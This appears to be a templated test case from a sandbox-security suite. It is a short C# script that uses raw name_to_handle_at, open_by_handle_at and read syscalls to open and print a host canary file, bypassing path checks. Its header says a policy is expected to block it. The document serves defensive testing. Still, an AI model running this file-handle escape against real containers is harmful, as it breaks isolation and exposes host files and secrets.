// family: file-read
// tries: to open a file of the host by handle, past every path check
// policy-on: blocked
// policy-off: ok|killed|blocked
// oracle: secret
// control: root
using System.Runtime.InteropServices;
[DllImport("libc", SetLastError = true)]
static extern long syscall(long number, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0);
var handle = Marshal.AllocHGlobal(256);
Marshal.WriteInt32(handle, 128);
var mount = Marshal.AllocHGlobal(8);
Console.WriteLine($"name_to_handle_at {syscall({SYS_name_to_handle_at}, -100, Marshal.StringToCoTaskMemUTF8("{CANARY}"), handle, mount, 0)}");
var folder = syscall({SYS_openat}, -100, Marshal.StringToCoTaskMemUTF8("{CANARY_FOLDER}"), 0);
var descriptor = syscall({SYS_open_by_handle_at}, folder, handle, 0);
Console.WriteLine($"open_by_handle_at {descriptor}, errno {Marshal.GetLastPInvokeError()}");
var buffer = Marshal.AllocHGlobal(4096);
var count = syscall({SYS_read}, descriptor, buffer, 4096);
Console.WriteLine(count > 0 ? Marshal.PtrToStringUTF8(buffer, (int)count) : "nothing");
